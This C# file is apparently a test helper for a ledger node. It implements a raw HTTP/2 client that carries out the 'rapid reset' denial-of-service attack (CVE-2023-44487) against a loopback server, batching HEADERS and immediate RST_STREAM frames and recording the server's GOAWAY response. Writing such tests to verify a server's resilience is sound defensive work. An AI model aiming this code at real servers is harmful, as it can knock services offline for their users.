using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Ledger.Node.Tests.Support;

/// <summary>
/// A deliberately hostile raw HTTP/2 client (CVE-2023-44487, "rapid reset"): on one connection it opens
/// streams (HEADERS for a gRPC call) and resets each at once (RST_STREAM CANCEL), never waiting for the
/// server, so the reset streams never count against SETTINGS_MAX_CONCURRENT_STREAMS. It reads and drops
/// whatever the server sends, noting a GOAWAY. Plain TCP to loopback; HPACK literals only (no Huffman, no
/// dynamic table), which every server must accept.
/// </summary>
public sealed class RapidResetClient : IAsyncDisposable
{
    private const byte FrameData = 0x0, FrameHeaders = 0x1, FrameRstStream = 0x3, FrameSettings = 0x4, FrameGoAway = 0x7;
    private const byte FlagEndHeaders = 0x4, FlagAck = 0x1;
    private const uint ErrorCancel = 0x8;

    private readonly Socket socket;
    private readonly NetworkStream stream;
    private readonly Task reader;
    private int goAwayErrorCode = -1;
    private readonly TaskCompletionSource<IReadOnlyDictionary<ushort, uint>> serverSettings = new(TaskCreationOptions.RunContinuationsAsynchronously);

    private RapidResetClient(Socket socket)
    {
        this.socket = socket;
        stream = new NetworkStream(socket, ownsSocket: false);
        reader = Task.Run(ReadAndDropAsync);
    }

    /// <summary>The GOAWAY error code the server sent (11 = ENHANCE_YOUR_CALM), or -1 if none.</summary>
    public int GoAwayErrorCode => Volatile.Read(ref goAwayErrorCode);

    /// <summary>The parameters of the server's first SETTINGS frame (identifier → value).</summary>
    public Task<IReadOnlyDictionary<ushort, uint>> ServerSettings => serverSettings.Task;

    /// <summary>True once the server closed the connection (after a GOAWAY, or outright).</summary>
    public bool ClosedByServer => reader.IsCompleted;

    public static async Task<RapidResetClient> ConnectAsync(int port)
    {
        var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        await socket.ConnectAsync(new IPEndPoint(IPAddress.Loopback, port));
        var client = new RapidResetClient(socket);
        var preface = new List<byte>(Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
        AppendFrame(preface, FrameSettings, 0, 0, []);
        await client.stream.WriteAsync(preface.ToArray());
        return client;
    }

    /// <summary>
    /// Opens and resets <paramref name="streams"/> streams calling <paramref name="path"/>, written in
    /// batches; returns how many were written before the server closed the connection.
    /// </summary>
    public async Task<int> OpenAndResetAsync(string path, string authority, int streams, int batch = 100)
    {
        var headers = HeaderBlock(path, authority);
        var written = 0;
        var streamId = 1u;
        var buffer = new List<byte>();
        while (written < streams && !ClosedByServer)
        {
            buffer.Clear();
            var count = Math.Min(batch, streams - written);
            for (var i = 0; i < count; i++)
            {
                AppendFrame(buffer, FrameHeaders, FlagEndHeaders, streamId, headers);
                var code = new byte[4];
                BinaryPrimitives.WriteUInt32BigEndian(code, ErrorCancel);
                AppendFrame(buffer, FrameRstStream, 0, streamId, code);
                streamId += 2;
            }

            try
            {
                await stream.WriteAsync(buffer.ToArray());
            }
            catch (IOException)
            {
                // The server closed the connection; let the reader see its last frames (a GOAWAY).
                await Task.WhenAny(reader, Task.Delay(TimeSpan.FromSeconds(5)));
                break;
            }

            written += count;
        }

        return written;
    }

    private static byte[] HeaderBlock(string path, string authority)
    {
        var block = new List<byte>
        {
            0x83, // :method POST (static index 3)
            0x86, // :scheme http (static index 6)
        };
        LiteralWithIndexedName(block, 4, path); // :path
        LiteralWithIndexedName(block, 1, authority); // :authority
        LiteralWithNewName(block, "content-type", "application/grpc");
        LiteralWithNewName(block, "te", "trailers");
        return [.. block];
    }

    private static void LiteralWithIndexedName(List<byte> block, byte staticIndex, string value)
    {
        block.Add(staticIndex); // 0000xxxx: literal without indexing, name from the static table (index < 15)
        AppendString(block, value);
    }

    private static void LiteralWithNewName(List<byte> block, string name, string value)
    {
        block.Add(0x00);
        AppendString(block, name);
        AppendString(block, value);
    }

    private static void AppendString(List<byte> block, string value)
    {
        var bytes = Encoding.ASCII.GetBytes(value);
        if (bytes.Length >= 127)
        {
            throw new ArgumentException("header value too long for this minimal encoder", nameof(value));
        }

        block.Add((byte)bytes.Length);
        block.AddRange(bytes);
    }

    private static void AppendFrame(List<byte> buffer, byte type, byte flags, uint streamId, byte[] payload)
    {
        buffer.Add((byte)(payload.Length >> 16));
        buffer.Add((byte)(payload.Length >> 8));
        buffer.Add((byte)payload.Length);
        buffer.Add(type);
        buffer.Add(flags);
        var id = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(id, streamId & 0x7FFF_FFFF);
        buffer.AddRange(id);
        buffer.AddRange(payload);
    }

    private async Task ReadAndDropAsync()
    {
        var header = new byte[9];
        var payload = new byte[1 << 24];
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(header);
                var length = (header[0] << 16) | (header[1] << 8) | header[2];
                var type = header[3];
                var flags = header[4];
                await stream.ReadExactlyAsync(payload.AsMemory(0, length));
                if (type == FrameGoAway && length >= 8)
                {
                    Volatile.Write(ref goAwayErrorCode, (int)BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4, 4)));
                }
                else if (type == FrameSettings && (flags & FlagAck) == 0)
                {
                    var settings = new Dictionary<ushort, uint>();
                    for (var offset = 0; offset + 6 <= length; offset += 6)
                    {
                        settings[BinaryPrimitives.ReadUInt16BigEndian(payload.AsSpan(offset, 2))] = BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(offset + 2, 4));
                    }

                    serverSettings.TrySetResult(settings);
                    var ack = new List<byte>();
                    AppendFrame(ack, FrameSettings, FlagAck, 0, []);
                    await stream.WriteAsync(ack.ToArray());
                }
                else if (type == FrameData)
                {
                    // Dropped; the server's flow-control window is not replenished (a hostile client would not).
                }
            }
        }
        catch (Exception e) when (e is IOException or EndOfStreamException or ObjectDisposedException or SocketException)
        {
            serverSettings.TrySetException(e);
        }
    }

    public async ValueTask DisposeAsync()
    {
        socket.Dispose();
        await reader.ConfigureAwait(false);
        await stream.DisposeAsync();
    }
}
